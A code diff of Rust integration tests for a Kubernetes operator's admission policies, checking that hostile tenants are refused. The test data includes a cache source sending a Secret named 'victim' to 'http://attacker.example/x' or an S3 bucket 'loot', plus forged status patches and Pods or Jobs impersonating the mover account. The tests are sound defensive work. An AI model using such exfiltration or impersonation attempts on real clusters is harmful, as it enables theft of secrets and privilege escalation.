@@ -185,6 +185,9 @@ impl Policies {
             .args(["template", &release, "charts/templatecache-operator"])
             .args(["--namespace", namespace])
             .args(["--set", &format!("copyJobs.serviceAccountName={mover}")])
+            // The test makes the copy Job's Pods itself, as the admin, in the Job controller's
+            // place (there is no Job controller here).
+            .args(["--set-json", r#"copyJobs.podCreators=["admin"]"#])
             .args(["--show-only", "templates/admissionpolicies.yaml"])
             .output()
             .expect("helm template");
@@ -213,13 +216,11 @@ impl Policies {
             }
             objects.push(object);
         }
-        assert_eq!(objects.len(), 4, "two policies and their bindings");
+        assert_eq!(objects.len(), 6, "three policies and their bindings");
         let manifest =
             serde_json::to_string(&json!({"apiVersion": "v1", "kind": "List", "items": objects}))
                 .expect("manifest");
         kubectl_stdin(&["apply", "-f", "-"], &manifest).expect("apply the policies");
-        // Policies take effect once the API server has compiled them; a dry-run create that
-        // they refuse shows it.
         Self { manifest }
     }
 }
@@ -227,6 +228,28 @@ impl Policies {
 impl Drop for Policies {
     fn drop(&mut self) {
         let _ = kubectl_stdin(&["delete", "--ignore-not-found", "-f", "-"], &self.manifest);
+    }
+}
+
+/// Policies take effect a moment after they are created (the API server compiles them in the
+/// background): waits until `probe`, a dry run of an attack, is refused.
+async fn until_refused<F, T>(what: &str, probe: impl Fn() -> F)
+where
+    F: std::future::Future<Output = kube::Result<T>>,
+{
+    for _ in 0..150 {
+        if probe().await.is_err() {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    panic!("the admission policies never refused {what}");
+}
+
+fn dry_run() -> PatchParams {
+    PatchParams {
+        dry_run: true,
+        ..PatchParams::default()
     }
 }
 
@@ -348,6 +371,22 @@ async fn a_tenant_cannot_hand_the_mover_a_secret_it_may_not_read() {
     let http =
         json!({"http": {"url": "http://attacker.example/x", "secretRef": {"name": "victim"}}});
     let s3 = json!({"s3": {"bucket": "loot", "key": "k", "secretRef": {"name": "victim"}}});
+    until_refused("a cache naming a Secret", || {
+        let api: Api<TemplateCache> = Api::namespaced(tenant.clone(), &ns.name);
+        let cache: TemplateCache = serde_json::from_value(json!({
+            "apiVersion": "templatecache.io/v1alpha1", "kind": "TemplateCache",
+            "metadata": {"name": "probe"}, "spec": {"source": http}
+        }))
+        .expect("cache");
+        async move {
+            let dry = PostParams {
+                dry_run: true,
+                ..PostParams::default()
+            };
+            api.create(&dry, &cache).await
+        }
+    })
+    .await;
     let attempts = [
         (
             "a TemplateCache naming Secret victim in spec.source.http.secretRef",
@@ -490,6 +529,17 @@ async fn a_pod_running_as_the_mover_cannot_forge_ready_and_nothing_ungates() {
     let forged = json!({"status": {"phase": "Ready", "size": 1,
         "checksum": format!("sha256:{}", "0".repeat(64)),
         "progress": {"attempt": 1, "bytesCopied": 1, "totalBytes": 1, "checksum": format!("sha256:{}", "0".repeat(64))}}});
+    let probe: Api<TemplateCache> =
+        Api::namespaced(client_as(&ns.name, &mover, Some(&impostor)).await, &ns.name);
+    until_refused("a forged status", || {
+        let probe = probe.clone();
+        let forged = forged.clone();
+        async move {
+            let patch = Patch::Merge(&forged);
+            probe.patch_status("image", &dry_run(), &patch).await
+        }
+    })
+    .await;
     let attempts = [
         (
             "forged Ready from a Pod of the namespace running as the mover's account",
@@ -517,6 +567,46 @@ async fn a_pod_running_as_the_mover_cannot_forge_ready_and_nothing_ungates() {
         record(&format!("hostile tenant (forged status): {case}"), &message);
         assert!(message.contains(expected), "{case}: {message}");
     }
+    // Nor can a namespace user make such a Pod (or a Job to make it) run as the mover.
+    let workloads = "--resource=pods,jobs.batch";
+    account(&ns.name, "tenant", &[&["--verb=create", workloads]]).await;
+    let tenant = client_as(&ns.name, "tenant", None).await;
+    let pod: Pod = serde_json::from_value(json!({
+        "metadata": {"name": "image-copy-1-zzzzz"},
+        "spec": {"serviceAccountName": mover, "containers": [{"name": "m", "image": "x"}]}
+    }))
+    .expect("pod");
+    let result = Api::<Pod>::namespaced(tenant.clone(), &ns.name)
+        .create(&PostParams::default(), &pod)
+        .await;
+    let message = refusal(result, "a Pod named like the copy Job's");
+    record(
+        "hostile tenant (forged status): a Pod named like the copy Job's Pod, running as the mover's account",
+        &message,
+    );
+    assert!(
+        message.contains("only the Job controller may create Pods"),
+        "{message}"
+    );
+    let job: Job = serde_json::from_value(json!({
+        "metadata": {"name": "image-copy-2"},
+        "spec": {"template": {"spec": {"serviceAccountName": mover, "restartPolicy": "Never",
+                 "containers": [{"name": "m", "image": "x"}]}}}
+    }))
+    .expect("job");
+    let result = Api::<Job>::namespaced(tenant, &ns.name)
+        .create(&PostParams::default(), &job)
+        .await;
+    let message = refusal(result, "a Job running as the mover");
+    record(
+        "hostile tenant (forged status): a Job under the next attempt's name, running as the mover's account",
+        &message,
+    );
+    assert!(
+        message.contains("only the templatecache operator may create Jobs"),
+        "{message}"
+    );
+
     // The real mover's one right: progress, from a Pod of the current Job.
     let progress =
         json!({"status": {"progress": {"attempt": 1, "bytesCopied": 7, "totalBytes": 9}}});
